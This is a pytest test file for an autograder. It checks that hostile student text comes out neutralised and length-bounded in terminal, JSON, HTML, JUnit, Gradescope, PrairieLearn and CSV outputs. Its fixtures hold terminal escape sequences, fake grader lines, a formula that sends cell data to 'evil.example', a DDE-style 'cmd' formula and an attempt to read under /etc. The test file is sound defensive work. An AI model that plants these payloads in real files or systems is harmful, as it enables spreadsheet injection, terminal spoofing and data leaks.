"""Student text is inert and bounded in every output (issue 10, classes 7 and 9).

Three layers: the rules of `grader.text` on their own; every output rendered from a
hand-built result whose every student-controlled string is hostile and huge; and real
grading, `grade` with every output and `grade batch` of a class whose folder names,
file names, exception types and messages, findings, notebook cell errors and prints
carry terminal escapes, fake grader lines and spreadsheet formulas.

For each output: no raw control character (nor a lone surrogate: every output can be
written as UTF-8), no student text on a line of its own that could pass for a grader
line (`FAKE`), and every student string within its limit (`X` fills messages, `Y`
prints, `N` names).
"""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import nbformat
import numpy as np
import pytest

from grader.batch.journal import read_latest
from grader.outputs import gradescope, junit, prairielearn
from grader.report.page import render
from grader.result import CheckResult, Finding, Result
from grader.terminal import summary
from grader.text import (
    FENCE,
    LINE_CHARS,
    NAME_CHARS,
    NEWLINE_MARK,
    PRINTED_CHARS,
    SHOWN_CHARS,
    fenced,
    inert,
    message_line,
    name_line,
    one_line,
)
from tests.cli_helpers import run_cli
from tests.hostile.conftest import STUDENTS

#: Clears the screen, retitles the terminal, then prints two lines that look like the grader's.
PAYLOAD = "\x1b]0;pwned\x07\x1b[2J\r\n  ✓ fake_check  4/4\nscore 12 / 12\x1b[1A\u202e\x9b31m\x00\x7f\x0c"
#: How the fake lines start; no line of any output may start so (indentation aside).
FAKE = ("✓ fake_check", "score 12 / 12")
#: Raw control characters, bidi overrides, line breaks other than \n, surrogates, non-characters.
RAW = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029"
    "\ud800-\udfff\ufffe\uffff]"
)
HUGE = 1_000_000


def assert_inert(text: str, where: str) -> None:
    found = RAW.search(text)
    assert found is None, (
        f"{where}: raw {found.group()!r} at {found.start()}: {text[found.start() - 40 :][:80]!r}"
    )
    text.encode("utf-8")  # strict: a lone surrogate could not be written


def assert_no_fake_line(text: str, where: str) -> None:
    for line in text.splitlines():
        assert not line.lstrip().startswith(FAKE), (
            f"{where}: a student line passes for the grader's: {line!r}"
        )


def longest_run(text: str, char: str) -> int:
    return max((len(m) for m in re.findall(f"{re.escape(char)}+", text)), default=0)


def assert_bounded(text: str, where: str, printed: int = PRINTED_CHARS) -> None:
    assert longest_run(text, "X") <= SHOWN_CHARS, f"{where}: a message is not bounded"
    assert longest_run(text, "N") <= NAME_CHARS, f"{where}: a name is not bounded"
    assert longest_run(text, "Y") <= printed, f"{where}: printed output is not bounded"


def strings(data: Any, path: str = "") -> Iterator[tuple[str, str]]:
    """Every string of a JSON document with where it is (``.checks[0].message``)."""
    if isinstance(data, str):
        yield path, data
    elif isinstance(data, dict):
        for key, value in data.items():
            yield from strings(value, f"{path}.{key}")
    elif isinstance(data, list):
        for index, value in enumerate(data):
            yield from strings(value, f"{path}[{index}]")


def assert_json_inert(document: Any, where: str, printed: int = PRINTED_CHARS) -> None:
    """Every string of a JSON document; ``stdout`` is the student's own block, which keeps its lines."""
    for path, text in strings(document):
        assert_inert(text, where + path)
        if path.endswith(".stdout"):
            assert_bounded(text, where + path, printed)
            continue
        assert_no_fake_line(text, where + path)
        assert_bounded(text, where + path)
        if path.endswith((".message", ".submission", ".rule")):
            assert "\n" not in text, f"{where}{path} spans lines"


# The rules ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("plain text, tabs\tand\nnewlines stay", "plain text, tabs\tand\nnewlines stay"),
        ("\x1b[2J\x1b]0;title\x07", "␛[2J␛]0;title␇"),
        ("nul\x00 del\x7f backspace\x08", "nul␀ del␡ backspace␈"),
        (
            "windows\r\nmac\rform\x0cfeed\x0bnel\x85ls\u2028ps\u2029",
            "windows\nmac\nform\nfeed\nnel\nls\nps\n",
        ),
        ("c1 csi\x9b31m", "c1 csi\ufffd31m"),
        ("abc\u202edcba\u2066x\u2069", "abc\ufffddcba\ufffdx\ufffd"),
        ("lone \ud800 surrogate \uffff", "lone \ufffd surrogate \ufffd"),
        ("é ✓ 日本 🙂", "é ✓ 日本 🙂"),
    ],
)
def test_inert_shows_control_characters_and_keeps_everything_else(raw: str, shown: str) -> None:
    assert inert(raw) == shown


def test_inert_is_idempotent_and_never_lengthens() -> None:
    every = "".join(map(chr, range(0x100))) + PAYLOAD
    assert inert(inert(every)) == inert(every)
    assert len(inert(every)) <= len(every)
    assert_inert(inert(every), "inert")


def test_one_line_puts_student_text_on_one_bounded_line() -> None:
    line = one_line(PAYLOAD + "X" * HUGE, SHOWN_CHARS)
    assert "\n" not in line and len(line) <= SHOWN_CHARS
    assert line.startswith(f"␛]0;pwned␇␛[2J{NEWLINE_MARK}  ✓ fake_check  4/4{NEWLINE_MARK}score 12 / 12")
    assert line.endswith("…")
    assert one_line("\n\nfirst\n\n\nsecond\n", 100) == f"first{NEWLINE_MARK}second"


def test_a_limit_holds_even_when_marking_line_breaks_lengthens_the_text() -> None:
    assert len(one_line("\n".join("a" * 50), 60)) <= 60


def test_message_and_name_lines_use_their_limits() -> None:
    assert len(message_line("X" * HUGE)) == SHOWN_CHARS and message_line(None) == ""
    assert len(name_line("N" * HUGE)) == NAME_CHARS


def test_fenced_puts_every_line_behind_the_fence() -> None:
    block = fenced(PAYLOAD + "Y" * HUGE, PRINTED_CHARS)
    assert len(block) <= PRINTED_CHARS
    assert all(line.startswith(FENCE) for line in block.split("\n"))
    assert fenced("one\ntwo\n", 100) == f"{FENCE}one\n{FENCE}two"


# Every output, from one hostile result -----------------------------------------------

SOURCE = (
    "import numpy as np\n\n\ndef mlp_backward(X, y, cache):\n    raise ValueError('" + "Q" * HUGE + "')\n"
)


def hostile_result(status: str = "graded") -> Result:
    """Every student-controlled string is the payload and a million characters long."""
    message = PAYLOAD + "X" * HUGE
    name = PAYLOAD + "N" * HUGE
    checks = [
        CheckResult(
            "mlp_backward.gradcheck",
            "mlp_backward matches numerical gradients",
            "error",
            0.0,
            4.0,
            message=message,
            details={"traceback": f'  File "{name}", line 4, in {name}\n    {message}\n'},
        ),
        CheckResult(
            "mlp_backward.source",
            "mlp_backward in context",
            "error",
            0.0,
            1.0,
            message=message,
            details={"traceback": '  File "exercise11.py", line 5, in mlp_backward\n    raise\n'},
        ),
        CheckResult(
            "mlp_backward.reference",
            "mlp_backward matches the reference",
            "failed",
            0.0,
            4.0,
            message=message,
            details={"name": name, "case": name, "expected": np.ones(3), "got": np.zeros(3)},
        ),
        CheckResult("mlp.elsewhere", "runs elsewhere", "skipped", 0.0, 1.0, message=message),
    ]
    return Result(
        submission=f"exercise11{name}.py",
        sha256="0" * 64,
        exercise="exercise11",
        checks=checks,
        status="error" if status == "error" else "graded",
        message=message if status == "error" else None,
        # as if captured under a cap larger than what outputs show (--output-kb 512)
        stdout=(PAYLOAD + "Y" * HUGE)[: 512 * 1024],
        integrity=[Finding(name, message), Finding("read-outside-sandbox", message)],
        defences=[name],
    )


OUTPUTS: dict[str, Callable[[Result], str]] = {
    "terminal": summary,
    "json": lambda result: json.dumps(result.to_json()),
    "html": lambda result: render(result, {"exercise11.py": SOURCE}),
    "gradescope": lambda result: gradescope.dumps([result]),
    "junit": lambda result: junit.dumps([result]),
    "prairielearn": lambda result: prairielearn.dumps([result]),
}
#: The student's own prints in a report: a box of its own under "What your code printed".
STDOUT_BOX = re.compile(r'<pre class="stdout">.*?</pre>', re.DOTALL)


def assert_output_inert(name: str, text: str, printed: int = PRINTED_CHARS) -> None:
    """One output document, by what it is: JSON (each string), XML or HTML (the text), plain text."""
    if name in ("json", "gradescope", "prairielearn"):
        assert_json_inert(json.loads(text), name, printed)
    elif name == "junit":
        ET.fromstring(text)  # well-formed
        assert_inert(text, name)
        assert_no_fake_line(text, name)
        assert_bounded(text, name)
    else:
        assert_inert(text, name)
        assert_no_fake_line(STDOUT_BOX.sub("", text) if name == "html" else text, name)
        assert_bounded(text, name)


@pytest.mark.parametrize("status", ["graded", "error"])
@pytest.mark.parametrize("name", sorted(OUTPUTS))
def test_every_output_shows_hostile_student_text_inert_and_bounded(name: str, status: str) -> None:
    text = OUTPUTS[name](hostile_result(status))
    assert_output_inert(name, text, printed=512 * 1024 if name == "json" else PRINTED_CHARS)
    assert len(text) < 1024 * 1024  # from some ten million characters of student text


@pytest.mark.parametrize("name", ["gradescope", "junit", "prairielearn"])
def test_machine_outputs_fence_what_the_student_printed(name: str) -> None:
    text = OUTPUTS[name](hostile_result("error"))  # nothing hidden ran: the prints are shown
    shown = (
        ET.fromstring(text).findtext(".//system-out", "") if name == "junit" else json.loads(text)["output"]
    )
    intro, *lines = shown[shown.index("What exercise11") :].rstrip("\n").split("\n")
    assert intro.endswith(" printed:") and len(intro) < NAME_CHARS + 20
    assert lines and all(line.startswith(FENCE) for line in lines)
    assert lines[1] == f"{FENCE}  ✓ fake_check  4/4"


def test_the_report_quotes_bounded_source_lines_and_names() -> None:
    html = render(replace(hostile_result(), submission="exercise11.py"), {"exercise11.py": SOURCE})
    assert 0 < longest_run(html, "Q") <= LINE_CHARS  # the quoted line 5 of the source
    assert 'class="offending"' in html


def test_coloured_terminal_summary_has_no_escape_but_the_graders_own_colours() -> None:
    text = summary(hostile_result(), colour=True)
    assert_inert(re.sub(r"\x1b\[\d+m", "", text), "coloured terminal")


# Real grading ------------------------------------------------------------------------

#: A file name with escapes and a fake grader line (Linux allows all but "/" and NUL).
HOSTILE_FILE = "exercise11\x1b]0;t\x07\x1b[2J\n  ✓ fake_check  4 of 4.py"
RAISE = f"""
Evil = type({PAYLOAD.replace(chr(0), "")!r}, (Exception,), {{}})  # its type name is the payload too


def boom():
    raise Evil({PAYLOAD!r} + "X" * {HUGE})
"""
#: Prints escapes, fake lines and a megabyte, tries to read a path that is the payload.
PRINT_AND_PROBE = f"""
print({PAYLOAD!r} + "Y" * {HUGE})
try:
    open("/etc/" + {PAYLOAD.replace(chr(0), "")!r} + "X" * 3000)  # a path holds no NUL
except Exception:
    pass
"""
SUBMISSIONS = {
    # graded: mlp_backward raises; the hidden check ran, so the prints are withheld from students
    "raises in mlp_backward": (STUDENTS / "correct.py").read_text()
    + RAISE
    + PRINT_AND_PROBE
    + "\n\ndef mlp_backward(X, y, cache):\n    boom()\n",
    # could not be graded: nothing hidden ran, so every output shows (fenced) what it printed
    "raises at import": PRINT_AND_PROBE + RAISE + "\nboom()\n",
}
OUTPUT_FLAGS = {
    "json": "--json",
    "junit": "--junit",
    "gradescope": "--gradescope",
    "prairielearn": "--prairielearn",
}
OUTPUT_KB = 512


@pytest.mark.slow
@pytest.mark.parametrize("case", sorted(SUBMISSIONS))
def test_grade_writes_every_output_of_a_hostile_submission_inert_and_bounded(
    tmp_path: Path, case: str
) -> None:
    path = tmp_path / HOSTILE_FILE
    path.write_text(SUBMISSIONS[case])
    files = {name: tmp_path / "out" / f"result.{name}" for name in OUTPUT_FLAGS}
    argv = [str(path), "--html", str(tmp_path / "report.html"), "--output-kb", str(OUTPUT_KB)]
    argv += [arg for name, flag in OUTPUT_FLAGS.items() for arg in (flag, str(files[name]))]
    code, stdout, stderr = run_cli(argv)
    assert code == 1, stderr
    documents = {name: file.read_text(encoding="utf-8") for name, file in files.items()}
    documents["html"] = (tmp_path / "report.html").read_text(encoding="utf-8")
    documents["terminal"] = stdout + stderr
    for name, text in documents.items():
        assert_output_inert(name, text, printed=OUTPUT_KB * 1024 if name == "json" else PRINTED_CHARS)
    result = json.loads(documents["json"])
    assert result["score"] < result["max_score"]
    assert result["submission"].startswith("exercise11␛]0;t␇␛[2J ⏎ ")
    assert longest_run(result["stdout"], "Y") > PRINTED_CHARS  # the JSON keeps what the cap kept
    if case == "raises at import":
        assert result["status"] == "error" and "␛]0;pwned␇" in result["message"]
        assert f"{FENCE}  ✓ fake_check  4/4" in json.loads(documents["gradescope"])["output"]
    else:
        assert {f["rule"] for f in result["integrity"]} >= {"read-outside-sandbox"}


# The batch -----------------------------------------------------------------------------

#: Student folders: a formula, escapes and a fake line in the name (a spreadsheet would run the first).
FORMULA_STUDENT = '=HYPERLINK("evil.example?"&A1,"ok")\x1b[2J\n  ✓ fake_check  4 of 4'
ESCAPE_STUDENT = "@SUM(1+1)\x1b]0;t\x07\x9b"
NOTEBOOK_STUDENT = "+nb\x1b[31m"
#: Neither a student nor an exercise: ignored, and named on stderr and in the summary.
JUNK = "-junk\x1b[2J\n  ✓ fake_check  4 of 4.txt"


def hostile_class(directory: Path) -> Path:
    for student, case in ((FORMULA_STUDENT, "raises in mlp_backward"), (ESCAPE_STUDENT, "raises at import")):
        (directory / student).mkdir(parents=True)
        (directory / student / "exercise11.py").write_text(SUBMISSIONS[case])
    (directory / NOTEBOOK_STUDENT).mkdir()
    cells = [(STUDENTS / "correct.py").read_text(), RAISE + "\nboom()\n", "print('after the error')"]
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(c) for c in cells])
    nbformat.write(notebook, directory / NOTEBOOK_STUDENT / "exercise11.ipynb")
    (directory / JUNK).write_text("not a submission\n")
    return directory


def roster(path: Path) -> Path:
    """A Canvas roster that names none of the students, and whose one person is named like a formula."""
    path.write_text(
        "Student,ID,SIS User ID,SIS Login ID,Section\n\"=cmd|' /C calc'!A0\x1b[2J\",1,-2,@login,+section\n"
    )
    return path


def assert_csv_inert(text: str, where: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert_inert(cell, where)
            assert "\n" not in cell, f"{where}: a cell spans lines: {cell!r}"
            assert not cell.startswith(("=", "+", "-", "@", "\t")), f"{where}: a formula: {cell!r}"
            assert_bounded(cell, where)
    return rows


@pytest.mark.slow
def test_batch_of_a_hostile_class_writes_every_output_inert_and_bounded(tmp_path: Path) -> None:
    directory = hostile_class(tmp_path / "class")
    out = tmp_path / "graded"
    argv = [
        "batch",
        str(directory),
        "--out",
        str(out),
        "--jobs",
        "2",
        "--canvas",
        str(roster(tmp_path / "r.csv")),
    ]
    code, stdout, stderr = run_cli(argv)
    assert code == 0, stderr
    assert_inert(stdout + stderr, "command line")
    assert_no_fake_line(stdout + stderr, "command line")
    assert "ignored -junk␛[2J ⏎   ✓ fake_check  4 of 4.txt" in stderr
    assert "not in the Canvas roster, so not in canvas.csv: " in stderr

    journal = (out / "results.jsonl").read_bytes()
    assert not re.search(rb"[\x00-\x09\x0b-\x1f\x7f-\xff]", journal)  # ASCII-only JSON lines
    rows = read_latest(out / "results.jsonl")
    students = {FORMULA_STUDENT, ESCAPE_STUDENT, NOTEBOOK_STUDENT}
    assert {row["student"] for row in rows} == students  # the identity stays exact: it is the key
    for row in rows:
        assert_json_inert({k: v for k, v in row.items() if k != "student"}, "results.jsonl")
    scores = {row["student"]: row["score"] for row in rows}
    assert scores[ESCAPE_STUDENT] == 0 < scores[FORMULA_STUDENT] < scores[NOTEBOOK_STUDENT] == 12
    notebook_row = next(row for row in rows if row["student"] == NOTEBOOK_STUDENT)
    note = next(line for line in notebook_row["stdout"].splitlines() if "cell 2 raised" in line)
    assert "␛]0;pwned␇" in note and NEWLINE_MARK in note and len(note) < 2_100

    grades = assert_csv_inert((out / "grades.csv").read_text(encoding="utf-8"), "grades.csv")
    assert {row[0] for row in grades[1:]} == {"'" + name_line(student) for student in students}
    canvas = assert_csv_inert((out / "canvas.csv").read_text(encoding="utf-8"), "canvas.csv")
    assert canvas[2][:5] == ["'=cmd|' /C calc'!A0␛[2J", "1", "'-2", "'@login", "'+section"]

    page = (out / "summary.html").read_text(encoding="utf-8")
    assert_output_inert("html", page)
    assert "/exercise11.html" in page and "%1B%5B2J%0A" in page  # links keep the exact folder name
    reports = [report for student in students for report in (out / student).glob("exercise11.*")]
    assert sorted(report.suffix for report in reports) == [".html"] * 3 + [".json"] * 3
    for report in reports:
        assert_output_inert(report.suffix.lstrip("."), report.read_text(encoding="utf-8"))
